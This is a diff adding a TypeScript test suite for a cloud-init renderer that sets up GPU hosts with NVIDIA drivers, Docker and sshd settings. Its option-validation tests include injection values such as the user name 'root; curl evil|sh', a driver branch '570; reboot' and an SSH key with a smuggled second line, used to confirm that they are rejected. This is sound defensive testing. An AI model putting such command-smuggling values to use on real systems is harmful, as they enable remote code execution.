@@ -1,0 +1,376 @@
+// cloud-init renderer: golden files, the traps a reviewer checks for, and validation with the
+// real tools. Golden files: run `UPDATE_GOLDEN=1 npx mocha test/cloudInit.test.ts` to rewrite
+// test/golden/cloud-init.*.yaml after an intended change, then review the diff.
+import * as assert from "assert";
+import { spawnSync } from "child_process";
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import * as YAML from "yaml";
+import {
+    CloudInitOptions,
+    CLOUD_INIT_DEFAULTS,
+    DOCKER_DAEMON_JSON_PATH,
+    REBOOT_REQUIRED_MARKER,
+    renderCloudInit,
+    resolveCloudInitOptions,
+    SETUP_DONE_MARKER,
+    SETUP_SCRIPT_PATH,
+    SSHD_DROP_IN_PATH,
+    validateCloudInitOptions,
+} from "../../cloud-init/render";
+import { assertShellcheckClean, assertValidCloudConfig, extractShellSnippets } from "../helpers/cloudInitChecks";
+import { requireTool } from "../helpers/tools";
+
+const KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq3Jm0oKjZ2c3b1hXl5m0V8l6mQb0dY3aT0v8cJkF7P operator@gpu-hosts";
+const KEY2 =
+    "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBHq3Jm0oKjZ2c3b1hXl5m0V8l6mQ= ci@gpu-hosts";
+
+/** One representative option set per golden file. */
+const CASES: Record<string, CloudInitOptions> = {
+    // AWS/GCP shape: cloud-init creates the user.
+    default: { sshAuthorizedKeys: [KEY] },
+    // Azure shape: the VM resource creates the admin user and its keys.
+    azure: { sshUser: "azureuser", createUser: false },
+    custom: {
+        sshUser: "gpuadmin",
+        sshAuthorizedKeys: [KEY, KEY2],
+        nvidiaDriverBranch: "550-server-open",
+        dockerLogMaxSize: "50m",
+        dockerLogMaxFile: 5,
+        hostname: "gpu-dev-aws",
+    },
+};
+
+const GOLDEN_DIR = path.join(__dirname, "..", "golden");
+
+function parse(text: string): Record<string, any> {
+    return YAML.parse(text) as Record<string, any>;
+}
+
+function writeFile(text: string, filePath: string): { path: string; content: string; permissions?: string; defer?: boolean } {
+    const entry = (parse(text).write_files as any[]).find((f) => f.path === filePath);
+    assert.ok(entry, `write_files has no ${filePath}`);
+    return entry;
+}
+
+function setupScriptOf(text: string): string {
+    return writeFile(text, SETUP_SCRIPT_PATH).content;
+}
+
+/** Lines of the script without comments or blank lines. */
+function commands(script: string): string[] {
+    return script
+        .split("\n")
+        .map((l) => l.trim())
+        .filter((l) => l !== "" && !l.startsWith("#"));
+}
+
+describe("cloud-init renderer", () => {
+    describe("golden files", () => {
+        for (const [name, opts] of Object.entries(CASES)) {
+            it(`matches test/golden/cloud-init.${name}.yaml byte for byte`, () => {
+                const file = path.join(GOLDEN_DIR, `cloud-init.${name}.yaml`);
+                const rendered = renderCloudInit(opts);
+                if (process.env.UPDATE_GOLDEN === "1") {
+                    fs.mkdirSync(GOLDEN_DIR, { recursive: true });
+                    fs.writeFileSync(file, rendered);
+                }
+                assert.ok(fs.existsSync(file), `${file} is missing; run with UPDATE_GOLDEN=1 to create it`);
+                assert.strictEqual(rendered, fs.readFileSync(file, "utf8"));
+            });
+        }
+    });
+
+    describe("rendered cloud-config", () => {
+        const text = renderCloudInit(CASES.default);
+        const config = parse(text);
+        const script = setupScriptOf(text);
+
+        it("starts with the #cloud-config header", () => {
+            assert.ok(text.startsWith("#cloud-config\n"));
+        });
+
+        it("raises sshd's MaxStartups and MaxSessions for the Docker provider's parallel SSH sessions, and makes sshd read them", function () {
+            const dropIn = writeFile(text, SSHD_DROP_IN_PATH);
+            assert.strictEqual(dropIn.permissions, "0644");
+            assert.deepStrictEqual(dropIn.content.split("\n").filter((l) => l && !l.startsWith("#")), ["MaxStartups 64:30:128", "MaxSessions 64"]);
+            const cmds = commands(script);
+            const reload = cmds.indexOf("systemctl reload ssh.service || systemctl restart ssh.service");
+            assert.ok(reload > 0 && cmds[reload - 1] === "sshd -t", "the config is checked, then sshd reloaded");
+            // The real sshd (Debian's openssh-server) reads the drop-in as intended.
+            const sshd = requireTool("sshd", this);
+            const keygen = requireTool("ssh-keygen", this);
+            const dir = fs.mkdtempSync(path.join(os.tmpdir(), "gpu-hosts-sshd-"));
+            try {
+                fs.writeFileSync(path.join(dir, "sshd_config"), dropIn.content);
+                assert.strictEqual(spawnSync(keygen, ["-q", "-t", "ed25519", "-N", "", "-f", path.join(dir, "host_key")]).status, 0);
+                fs.mkdirSync("/run/sshd", { recursive: true });
+                const res = spawnSync(sshd, ["-T", "-f", path.join(dir, "sshd_config"), "-h", path.join(dir, "host_key")], { encoding: "utf8" });
+                assert.strictEqual(res.status, 0, res.stderr);
+                assert.match(res.stdout, /^maxstartups 64:30:128$/m);
+                assert.match(res.stdout, /^maxsessions 64$/m);
+            } finally {
+                fs.rmSync(dir, { recursive: true, force: true });
+            }
+        });
+
+        it("is deterministic and does not mutate its options", () => {
+            const opts = Object.freeze({ ...CASES.custom, sshAuthorizedKeys: Object.freeze([KEY, KEY2]) });
+            assert.strictEqual(renderCloudInit(opts), renderCloudInit(opts));
+            assert.deepStrictEqual(opts.sshAuthorizedKeys, [KEY, KEY2]);
+        });
+
+        it("never upgrades packages at first boot (the kernel must not move under the driver)", () => {
+            assert.strictEqual(config.package_upgrade, false);
+            assert.strictEqual(config.package_reboot_if_required, false);
+            assert.doesNotMatch(text, /apt(-get)? (full-|dist-)?upgrade/);
+        });
+
+        it("never reloads systemd units (GPU containers would lose their devices)", () => {
+            for (const t of Object.values(CASES).map(renderCloudInit)) {
+                assert.doesNotMatch(t, /daemon-reload|daemon-reexec/);
+            }
+        });
+
+        it("references apt keys by absolute signed-by paths that the script writes", () => {
+            const signedBy = [...script.matchAll(/signed-by=([^\] ]+)/g)].map((m) => m[1]);
+            assert.deepStrictEqual(signedBy, [
+                "/etc/apt/keyrings/docker.asc",
+                "/usr/share/keyrings/nvidia-container-toolkit-keyring.gpg",
+            ]);
+            for (const keyPath of signedBy) {
+                assert.ok(path.isAbsolute(keyPath), `${keyPath} is not absolute`);
+                assert.ok(script.includes(`install -m 0644 "$tmp" ${keyPath}\n`), `no key written to ${keyPath}`);
+                assert.ok(script.includes(`if [ ! -s ${keyPath} ]; then`), `key ${keyPath} is fetched every run`);
+            }
+            // apt reads binary keyrings only from .gpg files; NVIDIA's key is armoured.
+            assert.match(
+                script,
+                /curl -fsSL https:\/\/nvidia\.github\.io\/libnvidia-container\/gpgkey \| gpg --batch --yes --dearmor -o "\$tmp"/,
+            );
+            assert.match(script, /https:\/\/nvidia\.github\.io\/libnvidia-container\/stable\/deb\/%s \/\\n' "\$arch"/);
+            assert.match(script, /curl -fsSL https:\/\/download\.docker\.com\/linux\/ubuntu\/gpg -o "\$tmp"/);
+        });
+
+        it("installs the headless NVIDIA server driver for the configured branch", () => {
+            assert.ok(script.includes("readonly DRIVER_PACKAGES=(nvidia-headless-570-server nvidia-utils-570-server)"));
+            assert.ok(script.includes('"linux-headers-$(uname -r)" "${DRIVER_PACKAGES[@]}"'));
+            const custom = setupScriptOf(renderCloudInit(CASES.custom));
+            assert.ok(custom.includes("readonly DRIVER_PACKAGES=(nvidia-headless-550-server-open nvidia-utils-550-server-open)"));
+        });
+
+        it("configures the Docker runtime with nvidia-ctk, then restarts Docker", () => {
+            const cmds = commands(script);
+            const i = cmds.indexOf("nvidia-ctk runtime configure --runtime=docker");
+            assert.ok(i >= 0, "nvidia-ctk runtime configure --runtime=docker is missing");
+            assert.strictEqual(cmds[i + 1], "systemctl restart docker");
+            assert.ok(i > cmds.indexOf("apt_get install nvidia-container-toolkit"), "configured before the toolkit is installed");
+        });
+
+        it("writes daemon.json with log rotation before Docker is installed", () => {
+            const daemon = writeFile(text, DOCKER_DAEMON_JSON_PATH);
+            assert.notStrictEqual(daemon.defer, true, "a deferred daemon.json lands after packages start Docker");
+            assert.deepStrictEqual(JSON.parse(daemon.content), {
+                "log-driver": "json-file",
+                "log-opts": { "max-size": "10m", "max-file": "3" },
+            });
+            const custom = JSON.parse(writeFile(renderCloudInit(CASES.custom), DOCKER_DAEMON_JSON_PATH).content);
+            assert.deepStrictEqual(custom["log-opts"], { "max-size": "50m", "max-file": "5" });
+            // Nothing else may overwrite it; nvidia-ctk merges its runtime into it.
+            assert.doesNotMatch(commands(script).join("\n"), /daemon\.json/);
+        });
+
+        it("runs the setup script from runcmd, executable, marking completion last", () => {
+            assert.deepStrictEqual(config.runcmd, [[SETUP_SCRIPT_PATH]]);
+            assert.strictEqual(writeFile(text, SETUP_SCRIPT_PATH).permissions, "0755");
+            const cmds = commands(script);
+            assert.strictEqual(cmds[0], "set -euo pipefail");
+            assert.strictEqual(cmds[cmds.length - 2], 'touch "$DONE_MARKER"');
+            assert.ok(script.includes(`readonly DONE_MARKER=${SETUP_DONE_MARKER}\n`));
+        });
+
+        it("skips the driver, toolkit and Docker when the image already has them", () => {
+            const cmds = commands(script);
+            const guarded = (guard: string, install: string) => {
+                const g = cmds.indexOf(guard);
+                const e = cmds.indexOf("else", g);
+                const inst = cmds.indexOf(install);
+                const end = cmds.indexOf("fi", inst);
+                assert.ok(g >= 0 && g < e && e < inst && inst < end, `${install} is not in the else branch of ${guard}`);
+                // Nothing but nested blocks between the else and the install.
+                assert.ok(!cmds.slice(g + 1, e).some((c) => c.startsWith("apt_get install")));
+            };
+            guarded("if nvidia-smi >/dev/null 2>&1; then", 'apt_get install --no-install-recommends "linux-headers-$(uname -r)" "${DRIVER_PACKAGES[@]}"');
+            guarded("if command -v nvidia-ctk >/dev/null 2>&1; then", "apt_get install nvidia-container-toolkit");
+            guarded("if command -v dockerd >/dev/null 2>&1; then", 'apt_get install "${DOCKER_PACKAGES[@]}"');
+        });
+
+        it("reboots only when the driver could not be loaded, via a marker file", () => {
+            assert.deepStrictEqual(config.power_state, {
+                mode: "reboot",
+                message: "gpu-hosts: rebooting to load the NVIDIA driver",
+                timeout: 30,
+                condition: `test -f ${REBOOT_REQUIRED_MARKER}`,
+            });
+            assert.ok(script.includes(`readonly REBOOT_MARKER=${REBOOT_REQUIRED_MARKER}\n`));
+            const cmds = commands(script);
+            const load = cmds.indexOf("if modprobe nvidia && nvidia-smi >/dev/null 2>&1; then");
+            assert.ok(load >= 0);
+            assert.strictEqual(cmds[load + 2], "else");
+            assert.strictEqual(cmds[load + 4], 'cat /proc/sys/kernel/random/boot_id >"$REBOOT_MARKER"');
+            const rebooting = cmds.filter((c) => /^(reboot|shutdown|systemctl (reboot|poweroff|kexec))\b/.test(c));
+            assert.deepStrictEqual(rebooting, [], "the script itself must not reboot");
+        });
+
+        it("a missing marker makes the condition exit 1 (not met), not an error", function () {
+            if (fs.existsSync(REBOOT_REQUIRED_MARKER)) this.skip();
+            const res = spawnSync("sh", ["-c", config.power_state.condition]);
+            assert.strictEqual(res.status, 1);
+        });
+
+        it("adds the SSH user to the docker group after Docker exists", () => {
+            const cmds = commands(script);
+            assert.ok(cmds.indexOf('usermod -aG docker "$SSH_USER"') > cmds.indexOf('apt_get install "${DOCKER_PACKAGES[@]}"'));
+            assert.ok(script.includes("readonly SSH_USER=ubuntu\n"));
+            // A docker group made by cloud-init would break docker-ce's `addgroup --system docker`.
+            assert.deepStrictEqual(Object.keys(config.users[0]).sort(), [
+                "lock_passwd",
+                "name",
+                "shell",
+                "ssh_authorized_keys",
+                "sudo",
+            ]);
+        });
+
+        it("creates the user with its keys, or leaves it to the cloud (Azure)", () => {
+            assert.deepStrictEqual(config.users, [
+                {
+                    name: "ubuntu",
+                    shell: "/bin/bash",
+                    sudo: "ALL=(ALL) NOPASSWD:ALL",
+                    lock_passwd: true,
+                    ssh_authorized_keys: [KEY],
+                },
+            ]);
+            assert.strictEqual(config.ssh_pwauth, false);
+            const azureText = renderCloudInit(CASES.azure);
+            const azure = parse(azureText);
+            assert.strictEqual(azure.users, undefined);
+            assert.strictEqual(azure.ssh_authorized_keys, undefined);
+            assert.ok(setupScriptOf(azureText).includes("readonly SSH_USER=azureuser\n"));
+            const azureWithKey = parse(renderCloudInit({ ...CASES.azure, sshAuthorizedKeys: [KEY] }));
+            assert.deepStrictEqual(azureWithKey.ssh_authorized_keys, [KEY]);
+        });
+
+        it("sets the hostname only when given", () => {
+            assert.strictEqual(config.hostname, undefined);
+            assert.strictEqual(parse(renderCloudInit(CASES.custom)).hostname, "gpu-dev-aws");
+        });
+
+        it("trims the trailing newline of tls.PrivateKey.publicKeyOpenssh", () => {
+            assert.deepStrictEqual(parse(renderCloudInit({ sshAuthorizedKeys: [`${KEY}\n`] })).users[0].ssh_authorized_keys, [KEY]);
+        });
+    });
+
+    describe("options", () => {
+        it("resolves every default in one place", () => {
+            assert.deepStrictEqual(resolveCloudInitOptions({ sshAuthorizedKeys: [KEY] }), {
+                ...CLOUD_INIT_DEFAULTS,
+                sshAuthorizedKeys: [KEY],
+            });
+            assert.deepStrictEqual(CLOUD_INIT_DEFAULTS, {
+                sshUser: "ubuntu",
+                createUser: true,
+                sshAuthorizedKeys: [],
+                nvidiaDriverBranch: "570-server",
+                dockerLogMaxSize: "10m",
+                dockerLogMaxFile: 3,
+            });
+        });
+
+        it("rejects a bad driver branch, naming the option, the value and what is allowed", () => {
+            assert.throws(
+                () => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: "570; reboot" }),
+                {
+                    message:
+                        'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch matching /^[0-9]{3}-server(-open)?$/, e.g. "570-server" or "570-server-open", got "570; reboot"',
+                },
+            );
+            for (const bad of ["570", "nvidia-570-server", "570-server\n", "570-open", ""]) {
+                assert.throws(() => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: bad }), /nvidiaDriverBranch/);
+            }
+            for (const good of ["535-server", "570-server", "575-server-open"]) {
+                assert.doesNotThrow(() => renderCloudInit({ ...CASES.default, nvidiaDriverBranch: good }));
+            }
+        });
+
+        it("reports every problem at once", () => {
+            const problems = validateCloudInitOptions({
+                sshUser: "root; curl evil|sh",
+                sshAuthorizedKeys: ["not a key"],
+                nvidiaDriverBranch: "latest",
+                dockerLogMaxSize: "10 MB",
+                dockerLogMaxFile: 0,
+                hostname: "Bad_Host",
+            });
+            assert.deepStrictEqual(problems, [
+                'cloud-init option sshUser must be a Linux user name matching /^[a-z_][a-z0-9_-]{0,31}$/, got "root; curl evil|sh"',
+                'cloud-init option sshAuthorizedKeys[0] must be a one-line OpenSSH public key ("ssh-ed25519 AAAA... comment"), got "not a key"',
+                'cloud-init option nvidiaDriverBranch must be an Ubuntu NVIDIA server driver branch matching /^[0-9]{3}-server(-open)?$/, e.g. "570-server" or "570-server-open", got "latest"',
+                'cloud-init option dockerLogMaxSize must be a size like "10m" (a positive integer followed by k, m or g), got "10 MB"',
+                "cloud-init option dockerLogMaxFile must be an integer from 1 to 100, got 0",
+                "cloud-init option hostname must be a lowercase DNS label (a-z, 0-9, '-', at most 63 characters), got \"Bad_Host\"",
+            ]);
+            assert.throws(() => resolveCloudInitOptions({ sshUser: "x y", nvidiaDriverBranch: "1" }), (e: Error) => {
+                assert.strictEqual(e.message.split("\n").length, 3); // sshUser, no keys, branch
+                return true;
+            });
+        });
+
+        it("requires a key when it creates the user", () => {
+            assert.deepStrictEqual(validateCloudInitOptions({}), [
+                "cloud-init option sshAuthorizedKeys must be at least one key when createUser is true, got []",
+            ]);
+            assert.deepStrictEqual(validateCloudInitOptions({ createUser: false }), []);
+        });
+
+        it("rejects keys that would smuggle in a second line", () => {
+            assert.throws(() => renderCloudInit({ sshAuthorizedKeys: [`${KEY}\nssh-ed25519 AAAAevil x`] }), /sshAuthorizedKeys\[0\]/);
+        });
+    });
+
+    describe("validation with the real tools", () => {
+        for (const [name, opts] of Object.entries(CASES)) {
+            it(`cloud-init schema accepts the ${name} user data`, function () {
+                requireTool("cloud-init", this);
+                assertValidCloudConfig(renderCloudInit(opts));
+            });
+
+            it(`shellcheck finds nothing in the ${name} user data's shell`, function () {
+                requireTool("shellcheck", this);
+                const checked = assertShellcheckClean(renderCloudInit(opts));
+                assert.deepStrictEqual(
+                    checked.map((s) => `${s.name} ${s.shell}`),
+                    [`write_files[${SETUP_SCRIPT_PATH}] bash`, "runcmd[0] sh", "power_state.condition sh"],
+                );
+            });
+        }
+
+        it("the checks catch what they are for", function () {
+            requireTool("cloud-init", this);
+            requireTool("shellcheck", this);
+            const text = renderCloudInit(CASES.default);
+            assert.throws(() => assertValidCloudConfig(text.replace("mode: reboot", "mode: restart")), /power_state\.mode/);
+            assert.throws(() => assertValidCloudConfig(text.replace("package_upgrade:", "package_upgarde:")), /package_upgarde/);
+            assert.throws(() => assertValidCloudConfig(text.replace("#cloud-config\n", "")), /#cloud-config/);
+            const sloppy = text.replace('"linux-headers-$(uname -r)"', "linux-headers-$(uname -r)");
+            assert.throws(() => assertShellcheckClean(sloppy), /write_files\[\/usr\/local\/sbin\/gpu-hosts-setup\] \(shellcheck -s bash\):\n.*SC2046/);
+            const doc = parse(text);
+            doc.runcmd.push("[[ -e /x ]] && echo $HOME");
+            const withRuncmd = "#cloud-config\n" + YAML.stringify(doc);
+            assert.throws(() => assertShellcheckClean(withRuncmd), /runcmd\[1\] \(shellcheck -s sh\)/);
+            assert.strictEqual(extractShellSnippets(withRuncmd)[2].script, "[[ -e /x ]] && echo $HOME\n");
+        });
+    });
+});
